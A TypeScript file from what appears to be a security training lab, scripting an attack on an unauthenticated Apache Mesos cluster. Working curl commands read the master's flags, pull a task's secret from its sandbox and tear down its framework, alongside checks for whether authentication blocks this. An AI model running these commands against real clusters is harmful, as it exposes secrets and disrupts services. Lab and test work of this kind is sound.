import { readWhenWritten, sandboxOf } from "../_shared/attacks.js";
import { OBSERVED_111 } from "../_shared/expect.js";
import { challenged } from "../_shared/http.js";

/**
 * Exercise 06's attack: an anonymous caller on the network reads the master's flags and a running task's stdout (its
 * secret) through the agent's sandbox browser, then tears the task's framework down. Observed on real Mesos 1.11.1
 * (docs/facts/observed-1.11.md, "Observed 2026-12-06, attacks").
 */

const OBSERVED = `${OBSERVED_111} Observed 2026-12-06, attack 06`;
export const PAYROLL_SECRET = "payroll-db-4f8a2c19";

/** The task's sandbox as the agent's /files endpoints name it: found through /files/debug, which lists what is attached. */
const SANDBOX = sandboxOf("payroll");

export const anonymousHttp = {
  id: "anonymous-http",
  title: "an anonymous caller reads a task's secret and tears its framework down",
  // the agent logs a /files request it lets through (a 401 is not logged): a read of payroll's sandbox, by an attendee
  noticed: { log: "agent" as const, pattern: "HTTP GET for /files/read\\?\\S*executors%2Fpayroll\\S* from (?<from>[0-9.]+):\\d+" },
  actions: [
    {
      do: "execute" as const,
      id: "payroll",
      args: ["--name=payroll", `--env={"DB_PASSWORD":"${PAYROLL_SECRET}"}`, "--command=echo DB_PASSWORD=$DB_PASSWORD; sleep 600"],
      detach: true,
    },
    { do: "attack" as const, id: "flags", http: true, run: "curl -si http://${target.master}/master/flags" },
    { do: "attack" as const, id: "sandbox", http: true, run: readWhenWritten("payroll") },
    {
      do: "attack" as const,
      id: "teardown",
      http: true,
      run: `${SANDBOX}; curl -si -X POST -d "frameworkId=$(echo "$s" | cut -d/ -f3)" http://\${target.master}/master/teardown`,
    },
  ],
  works: [
    {
      id: "secret-read",
      says: "it reads the task's stdout from the agent's sandbox: the secret the task printed",
      source: { attacker: "sandbox", part: "body" as const },
      pattern: `"data":"DB_PASSWORD=${PAYROLL_SECRET}\\\\n"`,
      cite: { at: "src/files/files.cpp:229", ref: OBSERVED },
    },
    {
      id: "teardown-200",
      says: "its teardown of the task's framework is 200 OK",
      source: { attacker: "teardown", part: "status" as const },
      pattern: "^HTTP/1\\.1 200 OK$",
      cite: { at: "src/master/http.cpp:2737", ref: OBSERVED },
    },
    {
      id: "framework-removed",
      says: "the master removes the framework, and its task with it",
      source: { log: "master" as const },
      pattern: "Removing framework \\S+-\\d{4,} \\(mesos-execute instance\\)",
      cite: { at: "src/master/master.cpp:10374", ref: OBSERVED },
      example: "master.cpp:10374] Removing framework 25311df9-2ca6-470f-8825-c629d2aabed8-0000 (mesos-execute instance)",
    },
    {
      id: "flags-read",
      says: "the anonymous caller reads the master's flags: authentication is off",
      source: { attacker: "flags", part: "body" as const },
      pattern: '"authenticate_http_readonly":"false"',
      cite: { at: "src/master/http.cpp:1451", ref: OBSERVED },
    },
  ],
  blocked: [
    ...challenged("flags", "mesos-master-readonly", "the anonymous GET /master/flags", { attacker: "flags" }),
    ...challenged("sandbox", "mesos-agent-readonly", "the anonymous read of the sandbox", { attacker: "sandbox" }),
    ...challenged("teardown", "mesos-master-readwrite", "the anonymous teardown", { attacker: "teardown" }),
    {
      id: "framework-stays",
      says: "the framework stays: nothing was torn down",
      source: { log: "master" as const },
      pattern: "Removing framework",
      negate: true,
      timeoutMs: 1000,
      cite: { at: "src/master/master.cpp:10374", ref: OBSERVED },
      example: "master.cpp:10374] Removing framework 25311df9-2ca6-470f-8825-c629d2aabed8-0000 (mesos-execute instance)",
    },
  ],
};
